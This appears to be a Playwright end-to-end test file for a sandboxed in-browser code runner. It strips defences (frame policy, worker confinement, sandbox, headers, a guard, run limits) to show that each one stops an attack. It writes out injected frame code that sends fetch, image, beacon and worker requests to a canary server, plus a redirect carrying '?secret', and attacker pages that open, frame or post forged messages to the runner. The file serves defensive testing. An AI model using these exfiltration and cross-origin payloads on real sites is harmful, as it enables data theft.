import type { Page } from 'playwright/test';
import { program } from '../e2e/runtime/test.ts';
import { framerPage, openerPage } from './attacker-pages.ts';
import { openCanary } from './canary.ts';
import { type Defence, openSite } from './site.ts';
import { chromiumStage } from './stage.ts';
import { damageOf, expect, test } from './test.ts';

/** How long nothing may happen before it is taken for never, in ms. */
const QUIET_MS = 1_500;

/*
 * Positive controls: the same attacks with defences taken away. Where nothing stops an attack, its detector has to
 * see it; where one defence is left, that one alone has to stop it.
 */

test.describe('network: the policy of the frame and the confinement of the worker each suffice', () => {
  const ids = [
    'XMLHttpRequest',
    'synchronous XMLHttpRequest',
    'WebSocket',
    'EventSource',
    'importScripts',
    'nested worker',
    'FontFace',
  ];
  for (const id of ids) {
    test(id, async ({ page }) => {
      const stage = chromiumStage(page);
      const neither = await damageOf(stage, id, { without: ['frame-policy', 'confinement'] });
      expect(neither.network).not.toEqual([]);
      const policyAlone = await damageOf(stage, id, { without: ['confinement'] });
      expect(policyAlone.network).toEqual([]);
      const confinementAlone = await damageOf(stage, id, { without: ['frame-policy'] });
      expect(confinementAlone.network).toEqual([]);
    });
  }
});

test('storage: a frame without sandbox refuses to boot; only without any guard is the site’s storage in reach', async ({
  page,
}) => {
  const stage = chromiumStage(page);
  const open: Defence[] = ['confinement', 'sandbox', 'frame-headers'];
  const unguarded = await damageOf(stage, 'IndexedDB', { without: [...open, 'guard'] });
  expect(unguarded.storage).toEqual(['database site']);
  const broadcast = await damageOf(stage, 'BroadcastChannel', { without: [...open, 'guard'] });
  expect(broadcast.storage).toContain('broadcast');
  const sandboxed = await damageOf(stage, 'IndexedDB', { without: ['confinement'] });
  expect(sandboxed.storage).toEqual([]);
});

test.describe('a frame that an attacker has got hold of', () => {
  const requests = (url: string) => `
;fetch('${url}/frame').catch(() => {}); new Image().src = '${url}/image';
navigator.sendBeacon?.('${url}/beacon', 'x'); new Worker(URL.createObjectURL(new Blob(["fetch('${url}/worker')"])));`;
  const leave = (url: string) => `\n;location.href = '${url}/left?secret';`;

  async function hits(page: Page, code: (url: string) => string, without: Defence[]): Promise<string[]> {
    const canary = await openCanary();
    const site = await openSite({ inFrame: code(canary.url), without });
    await page.goto(site.url);
    // It never becomes ready where it has left: the requests are what counts.
    await Promise.all([
      page.waitForResponse(/runner\.js/),
      page.evaluate(() => void window.bench.prepare().catch(() => {})),
    ]);
    await page.waitForTimeout(QUIET_MS);
    await page.goto('about:blank');
    await site.close();
    await canary.close();
    return canary.hits().filter((hit) => hit !== 'connection');
  }

  test('reaches no server, by its own policy', async ({ page }) => {
    expect(await hits(page, requests, [])).toEqual([]);
    expect(await hits(page, requests, ['frame-policy', 'page-policy'])).toEqual(
      expect.arrayContaining(['GET /frame', 'GET /image', 'GET /worker', 'POST /beacon']),
    );
  });

  test('cannot go to another server, by the policy of the page', async ({ page }) => {
    expect(await hits(page, leave, [])).toEqual([]);
    expect(await hits(page, leave, ['page-policy'])).toEqual(['GET /left?secret']);
  });
});

test.describe('the runner opened or framed by another site', () => {
  /** What the attacker's server hears: until it has heard all of `awaited`, or, without that, for as long as is quiet. */
  async function hits(
    page: Page,
    attackerPage: typeof openerPage,
    without: Defence[],
    awaited: readonly string[] = [],
  ): Promise<string[]> {
    const site = await openSite({ without });
    const pages: Record<string, string> = {};
    const canary = await openCanary(pages);
    pages['/attacker.html'] = attackerPage(`${site.url}runner.html`, canary.url);
    await page.goto(`${canary.url}/attacker.html`);
    const heard = () => [...new Set(canary.hits().filter((hit) => /booted|ran-in-worker/.test(hit)))].sort();
    if (awaited.length > 0) await expect.poll(heard, { timeout: 10_000 }).toEqual(awaited);
    else await page.waitForTimeout(QUIET_MS);
    for (const other of page.context().pages()) if (other !== page) await other.close();
    await page.goto('about:blank');
    await site.close();
    await canary.close();
    return heard();
  }
  const succeeded = ['GET /booted', 'GET /ran-in-worker'];

  test('in a window: headers and guard each suffice', async ({ page }) => {
    const open: Defence[] = ['guard', 'frame-headers', 'frame-policy'];
    expect(await hits(page, openerPage, open, succeeded)).toEqual(succeeded);
    expect(await hits(page, openerPage, ['frame-headers', 'frame-policy'])).toEqual([]);
    expect(await hits(page, openerPage, ['guard', 'frame-policy'])).toEqual([]);
  });

  test('in a frame: headers and guard each suffice', async ({ page }) => {
    const open: Defence[] = ['guard', 'frame-headers', 'frame-policy'];
    expect(await hits(page, framerPage, open, succeeded)).toEqual(succeeded);
    expect(await hits(page, framerPage, ['frame-headers', 'frame-policy'])).toEqual([]);
    expect(await hits(page, framerPage, ['guard', 'frame-policy'])).toEqual([]);
  });
});

test('limits: without them a loop goes on and a flood comes through; Stop still works', async ({
  page,
  site,
}) => {
  await page.goto(site);
  const unlimited = { timeMs: 1e6, outputLines: 1e6, outputBytes: 1e8 };
  const loop = program('console.log("before"); while (true);', { limits: unlimited });
  const stillGoing = await page.evaluate(
    ({ request, quietMs }) =>
      Promise.race([
        window.bench.run(request).then(() => 'ended'),
        new Promise((resolve) => setTimeout(resolve, quietMs, 'still going')),
      ]),
    { request: loop, quietMs: QUIET_MS },
  );
  expect(stillGoing).toBe('still going');
  const stopped = await page.evaluate((request) => window.bench.runAndStop(request, 'output'), loop);
  expect(stopped.outcome).toEqual({ kind: 'stopped' });
  const flood = program('for (let i = 0; i < 20_000; i += 1) console.log(i);', { limits: unlimited });
  const record = await page.evaluate((request) => window.bench.run(request), flood);
  const lines = record.events.flatMap(({ event }) => (event.type === 'output' ? event.chunks : []));
  expect(lines).toHaveLength(20_000);
});

test('a page that others send messages to goes by its ports alone', async ({ page, site }) => {
  const pages: Record<string, string> = {};
  const canary = await openCanary(pages);
  pages['/attacker.html'] = `<!doctype html><script>
  const opened = open('${site}');
  setInterval(() => opened.postMessage({ type: 'finished', outcome: { kind: 'done', exitCode: 99 } }, '*'), 5);
</script>`;
  const [opened] = await Promise.all([page.waitForEvent('popup'), page.goto(`${canary.url}/attacker.html`)]);
  await opened.waitForFunction(() => 'bench' in window);
  const record = await opened.evaluate((request) => window.bench.run(request), program('process.exit(3);'));
  expect(record.outcome).toEqual({ kind: 'done', exitCode: 3 });
  await canary.close();
});
